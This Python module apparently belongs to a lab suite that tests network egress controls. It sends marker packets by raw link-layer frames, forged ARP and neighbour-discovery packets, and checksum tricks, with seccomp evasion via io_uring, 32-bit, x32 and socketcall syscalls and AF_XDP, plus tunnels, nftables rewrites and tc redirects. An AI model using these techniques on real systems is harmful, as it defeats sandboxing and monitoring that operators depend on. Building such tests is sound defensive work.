"""Ways out below IP, and by links of one's own: `tricks.py links.NAME ARGUMENT...`."""

import ctypes
import fcntl
import mmap
import os
import socket
import struct
import time

from tricks import LIBC, check, datagram, expect, ipv4_datagram, link, own_address

ALL = 0x0003  # ETH_P_ALL
IPV4, ARP, IPV6 = 0x0800, 0x0806, 0x86DD
SOL_PACKET = 263


# Frames, and how they get to the link.


def frame(host, mark, how="raw", change=""):
    """A datagram in a frame: `change` is `offset:hexadecimal,...` over a proper frame."""
    data = framed(host, mark)
    for part in filter(None, change.split(",")):
        offset, _, value = part.partition(":")
        value = bytes.fromhex(value)
        data = data[: int(offset)] + value + data[int(offset) + len(value) :]
    WAYS[how](data)


def answered(host, mark):
    """A frame as it should be, and an answer to it."""
    with datagram(host) as flow:
        flow.bind(("", 4000))
        by_raw(framed(host, mark))
        expect(flow.recv(4096) == mark)


def tagged(host, mark, tag):
    """The same behind a tag between addresses and type: `tag` is hexadecimal."""
    data = framed(host, mark)
    by_raw(data[:12] + bytes.fromhex(tag) + data[12:])


def typed(mark, destination, ethertype):
    """Nothing but the mark, to whom and of which type one likes."""
    target = gateway() if destination == "gateway" else bytes.fromhex(destination)
    by_raw(target + own_link_address() + bytes.fromhex(ethertype) + mark.ljust(60, b"\0"))


def every_type(mark):
    """Every multiple of a prime among the types, lengths of IEEE 802.3 among them."""
    flow = opened()
    for ethertype in list(range(0, 0x10000, 251)) + [IPV4, IPV6, ARP, 0x8100, 0x88A8, 0x8847, 0x8864, 0x88CC, 0x888E, 0x8906]:
        flow.send(gateway() + own_link_address() + struct.pack("!H", ethertype) + mark.ljust(60, b"\0"))


def asked(mark, target, operation="1"):
    """An ARP packet (RFC 826) for `target`, with the mark where nothing should be."""
    body = struct.pack("!HHBBH", 1, IPV4, 6, 4, int(operation)) + own_link_address() + own_address()
    body += bytes(6) + socket.inet_aton(target) + mark
    by_raw(b"\xff" * 6 + own_link_address() + struct.pack("!H", ARP) + body)


def claimed(mark, address):
    """An ARP answer that nobody asked for: `address` is ours (the mark in the padding)."""
    body = struct.pack("!HHBBH", 1, IPV4, 6, 4, 2) + own_link_address() + socket.inet_aton(address)
    body += gateway() + socket.inet_aton("10.99.0.254") + mark
    by_raw(gateway() + own_link_address() + struct.pack("!H", ARP) + body)


def solicited(mark, kind, to="ff02::1"):
    """Neighbour discovery (RFC 4861) of `kind` about the gateway, with an option that carries the
    mark. Sent to one who is not on the link, it is as good as any datagram."""
    option = bytes([200, 3]) + mark.ljust(22, b"\0")[:22]
    body = struct.pack("!BBHI", int(kind), 0, 0, 0) + gateway_v6() + option
    source, target = own_address_v6(), socket.inet_pton(socket.AF_INET6, to)
    body = body[:2] + struct.pack("!H", checksum(source, target, 58, body)) + body[4:]
    packet = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target + body
    device = b"\x33\x33\x00\x00\x00\x01" if target[0] == 0xFF else gateway()
    by_raw(device + own_link_address() + struct.pack("!H", IPV6) + packet)


def segment(host, port, mark, flags):
    """A TCP segment, data and all, in no flow."""
    data = struct.pack("!HHIIBBHHH", 4000, int(port), 1, 1, 0x50, int(flags, 0), 1000, 0, 0) + mark
    by_raw(framed(host, data, 6))


def summed(host, allowed, mark):
    """A frame to what is allowed, of which a later link is to make one to `host`: by the checksum
    that it completes where the sender says (linux/virtio_net.h), in the destination's last octets."""
    at, length = (52, 2) if ":" in host else (32, 2)
    data = framed(allowed, mark + b"\0" * (len(mark) % 2 + 2))
    wanted = struct.unpack("!H", packed(host)[-length:])[0]
    # What is summed is chosen so that the sum is what is wanted.
    body = data[at:-2]
    data = data[:-2] + struct.pack("!H", fold(body + struct.pack("!H", wanted)))
    flow = opened()
    flow.setsockopt(SOL_PACKET, 15, 1)  # PACKET_VNET_HDR
    flow.send(struct.pack("=BBHHHH", 1, 0, 0, 0, at, 0) + data)  # VIRTIO_NET_HDR_F_NEEDS_CSUM


def packed(host):
    return socket.inet_pton(socket.AF_INET6 if ":" in host else socket.AF_INET, host)


def opened(kind=socket.SOCK_RAW, protocol=ALL):
    flow = socket.socket(socket.AF_PACKET, kind, socket.htons(protocol))
    flow.bind((link(), protocol))
    return flow


def by_raw(data):
    opened().send(data)


def by_bypass(data):
    flow = opened()
    flow.setsockopt(SOL_PACKET, 20, 1)  # PACKET_QDISC_BYPASS
    flow.send(data)


def by_datagram(data):
    flow = opened(socket.SOCK_DGRAM)
    flow.sendto(data[14:], (link(), struct.unpack("!H", data[12:14])[0], 0, 0, data[:6]))


def by_header(data):
    """With a header of virtio's in front: PACKET_VNET_HDR."""
    flow = opened()
    flow.setsockopt(SOL_PACKET, 15, 1)
    flow.send(bytes(10) + data)


def by_old_type(data):
    """SOCK_PACKET of the family IP: the kernel makes one of the family PACKET of it."""
    flow = socket.socket(socket.AF_INET, 10, socket.htons(ALL))
    name = struct.pack("=H14s", socket.AF_INET, link().encode()) + struct.pack("!H", ALL)
    sent = LIBC.sendto(flow.fileno(), data, len(data), 0, name, len(name))
    check(sent)


def by_ring(data):
    """Through memory that the kernel shares: PACKET_TX_RING."""
    flow = opened()
    flow.setsockopt(SOL_PACKET, 10, 1)  # PACKET_VERSION: TPACKET_V2
    flow.setsockopt(SOL_PACKET, 13, struct.pack("4I", 4096, 1, 2048, 2))
    memory = mmap.mmap(flow.fileno(), 4096)
    start = 32  # TPACKET2_HDRLEN - sizeof(struct sockaddr_ll)
    memory[start : start + len(data)] = data
    memory[0:8] = struct.pack("2I", 1, len(data))  # TP_STATUS_SEND_REQUEST
    flow.send(b"")


def by_kernel_ring(data):
    """A socket of the family PACKET that io_uring opens, which seccomp does not see."""
    import uring

    flow = uring.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))
    flow.bind((link(), ALL))
    flow.send(data)


def by_foreign_call(data):
    """A socket of the family PACKET by a call of 32 bits, which a filter may not know."""
    from bypass.packets import i386

    flow = socket.socket(fileno=check_descriptor(i386(359, socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))))
    flow.bind((link(), ALL))
    flow.send(data)


def by_socketcall(data):
    """The same by socketcall(2), whose arguments lie in memory."""
    from bypass.packets import i386, low

    arguments = low(struct.pack("3I", socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL)))
    flow = socket.socket(fileno=check_descriptor(i386(102, 1, arguments)))
    flow.bind((link(), ALL))
    flow.send(data)


def by_x32(data):
    from bypass.packets import x32

    flow = socket.socket(fileno=check_descriptor(x32(41, socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))))
    flow.bind((link(), ALL))
    flow.send(data)


def by_xdp(data):
    """AF_XDP: a queue of the link's, below what else looks at frames."""
    flow = socket.socket(44, socket.SOCK_RAW, 0)
    memory = mmap.mmap(-1, 4096 * 8)
    area = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    flow.setsockopt(283, 4, struct.pack("QQIIII", area, 4096 * 8, 4096, 0, 0, 0))  # XDP_UMEM_REG
    for option in (5, 6, 3):  # XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING, XDP_TX_RING
        flow.setsockopt(283, option, struct.pack("I", 8))
    # struct xdp_mmap_offsets: of rx, tx, fill and completion each producer, consumer, desc, flags
    offsets = struct.unpack("16Q", flow.getsockopt(283, 1, 128))
    producer, _, descriptors, _ = offsets[4:8]
    ring = mmap.mmap(flow.fileno(), 4096, offset=0x80000000)  # XDP_PGOFF_TX_RING
    # struct sockaddr_xdp: family, flags (copy), link, queue, shared descriptor
    name = struct.pack("HHIII", 44, 2, socket.if_nametoindex(link()), 0, 0)
    check(LIBC.bind(flow.fileno(), name, len(name)))
    memory[0 : len(data)] = data
    ring[descriptors : descriptors + 16] = struct.pack("QII", 0, len(data), 0)
    ring[producer : producer + 4] = struct.pack("I", 1)
    LIBC.sendto(flow.fileno(), None, 0, socket.MSG_DONTWAIT, None, 0)
    time.sleep(0.05)


WAYS = {
    "raw": by_raw,
    "bypass": by_bypass,
    "datagram": by_datagram,
    "header": by_header,
    "old-type": by_old_type,
    "ring": by_ring,
    "kernel-ring": by_kernel_ring,
    "foreign-call": by_foreign_call,
    "socketcall": by_socketcall,
    "x32": by_x32,
    "xdp": by_xdp,
}


# Links of one's own, for who may make them. All are removed, for a lab is used again.


def tunnel(host, allowed, mark, *kind):
    """A link of `kind` to `host`, within which everything goes to what is allowed."""
    run("ip link add way type " + " ".join(kind))
    try:
        inside = "fd31::1/64" if ":" in allowed else "172.31.1.1/24"
        run(f"ip address add {inside} dev way; ip link set way up")
        os.system(f"ip neighbour add {allowed} lladdr 02:00:00:00:00:02 dev way 2> /dev/null")
        run(f"ip route add {allowed} dev way")
        sent_as_datagram(allowed, mark)
    finally:
        os.system("ip link del way")


def encapsulated(allowed, mark, *encapsulation):
    """A route to what is allowed that wraps each packet."""
    run(f"ip route add {allowed} " + " ".join(encapsulation))
    try:
        sent_as_datagram(allowed, mark)
    finally:
        os.system(f"ip route del {allowed}")


def rewritten(host, allowed, mark, hook):
    """Rules of one's own that change the destination after everyone has looked."""
    kind = "ip6" if ":" in host else "ip"
    chains = {
        "nat": f"table {kind} way {{ chain c {{ type nat hook output priority -100; {kind} daddr {allowed} dnat to {host}; }}\n}}",
        "last": f"table {kind} way {{ chain c {{ type filter hook postrouting priority 300; {kind} daddr {allowed} {kind} daddr set {host}; }}\n}}",
        "egress": f"table netdev way {{ chain c {{ type filter hook egress device {link()} priority 300; {kind} daddr {allowed} {kind} daddr set {host}; }}\n}}",
    }
    run(f"nft '{chains[hook]}'")
    try:
        sent_as_datagram(allowed, mark)
    finally:
        os.system(f"nft delete table {'netdev' if hook == 'egress' else kind} way")


def redirected(mark):
    """What goes to loopback is sent out by the other link: a mirred action."""
    run("tc qdisc add dev lo clsact")
    try:
        run(f"tc filter add dev lo egress protocol all u32 match u32 0 0 action mirred egress redirect dev {link()}")
        sent_as_datagram("127.0.0.1", mark)
    finally:
        os.system("tc qdisc del dev lo clsact")


def on_top(host, mark, *kind):
    """A frame by a link that sits on top of the one that leads out."""
    below = link()
    run(f"ip link add link {below} name way type " + " ".join(kind))
    try:
        run("ip link set way up")
        target, source = gateway(), own_address()
        os.environ["LINK"] = "way"
        by_raw(target + own_link_address() + struct.pack("!H", IPV4) + ipv4_datagram(host, mark, source))
    finally:
        os.system("ip link del way")


def sent_as_datagram(host, mark):
    datagram(host).sendto(mark, (host, 9000))
    time.sleep(0.05)


def run(script):
    if os.system(script) != 0:
        raise OSError("failed: " + script)


# What frames are made of.


def framed(host, mark, protocol=17):
    """A whole frame to the gateway with an IP datagram for `host`."""
    if ":" in host:
        body = mark if protocol != 17 else struct.pack("!HHHH", 4000, 9000, 8 + len(mark), 0) + mark
        source, target = own_address_v6(), socket.inet_pton(socket.AF_INET6, host)
        at = 6 if protocol == 17 else 16
        body = body[:at] + struct.pack("!H", checksum(source, target, protocol, body)) + body[at + 2 :]
        packet = struct.pack("!IHBB", 6 << 28, len(body), protocol, 64) + source + target + body
        return gateway() + own_link_address() + struct.pack("!H", IPV6) + packet
    packet = ipv4_datagram(host, mark)
    if protocol != 17:
        packet = ipv4_packet(host, mark, protocol)
    return gateway() + own_link_address() + struct.pack("!H", IPV4) + packet


def ipv4_packet(host, body, protocol):
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0)
    header += own_address() + socket.inet_aton(host)
    return header[:10] + struct.pack("!H", fold(header)) + header[12:] + body


def checksum(source, target, protocol, body):
    return fold(source + target + struct.pack("!II", len(body), protocol) + body)


def fold(data):
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def gateway():
    """Link address of whom the default route names, or of everyone."""
    for line in open("/proc/net/arp").readlines()[1:]:
        words = line.split()
        if words[5] == link() and words[3] != "00:00:00:00:00:00":
            return bytes.fromhex(words[3].replace(":", ""))
    return b"\xff" * 6


def gateway_v6():
    """Whom the default route names: the next hop of the route to `::/0`."""
    for line in open("/proc/net/ipv6_route"):
        words = line.split()
        if words[1] == "00" and words[9] == link() and int(words[4], 16):
            return bytes.fromhex(words[4])
    return bytes(16)


def own_link_address():
    request = struct.pack("16s24x", link().encode())
    return fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0x8927, request)[18:24]  # SIOCGIFHWADDR


def own_address_v6():
    for line in open("/proc/net/if_inet6"):
        words = line.split()
        if words[5] == link() and words[3] == "00":
            return bytes.fromhex(words[0])
    return bytes(16)


def check_descriptor(number):
    if number < 0:
        raise OSError(-number, os.strerror(-number))
    return number
